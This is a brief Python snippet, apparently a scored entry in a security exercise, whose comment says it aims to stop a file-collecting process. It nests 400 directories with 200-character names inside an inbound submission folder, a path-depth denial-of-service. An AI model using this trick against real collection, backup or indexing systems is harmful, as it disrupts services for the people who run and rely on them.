# Tries: stop the collecting with 400 folders in each other
# Earns: 5

# %% exchange
folder = inbound / f"{me}+{lesson}+{now}+AAAA"
folder.mkdir(mode=0o755)
os.chdir(folder)
for _ in range(400):
    os.mkdir("a" * 200)
    os.chdir("a" * 200)
